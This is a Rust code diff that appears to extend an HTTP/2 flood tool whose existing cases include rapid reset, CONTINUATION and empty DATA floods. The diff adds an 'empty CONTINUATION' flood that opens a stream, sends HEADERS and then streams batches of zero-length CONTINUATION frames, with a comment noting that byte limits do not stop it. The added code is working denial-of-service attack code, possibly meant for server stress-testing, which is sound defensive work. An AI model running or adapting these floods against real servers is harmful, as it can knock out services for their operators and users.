@@ -71,6 +71,7 @@ floods! {
     "rapid reset inside" 8, rapid_reset_inside;
     "made you reset" 8, made_you_reset;
     "CONTINUATION" 8, continuation;
+    "empty CONTINUATION" 8, empty_continuation;
     "empty DATA" 8, empty_data;
     "empty DATA inside" 8, empty_data_inside;
     "PING" 8, pings;
@@ -343,6 +344,17 @@ async fn continuation(attack: &Attack) -> Result<()> {
         for _ in 0..BATCH {
             frames::continuation(bytes, 1, &field);
         }
+    })
+    .await
+}
+
+/// The same in pieces without a byte, which no limit of bytes ends.
+async fn empty_continuation(attack: &Attack) -> Result<()> {
+    let stream = attack.client.open(&["h2"]).await?;
+    let mut first = Vec::new();
+    frames::headers(&mut first, 0, 1, &connect_head(attack));
+    frames_flood(attack, stream, first, |bytes| {
+        (0..BATCH).for_each(|_| frames::continuation(bytes, 1, &[]));
     })
     .await
 }
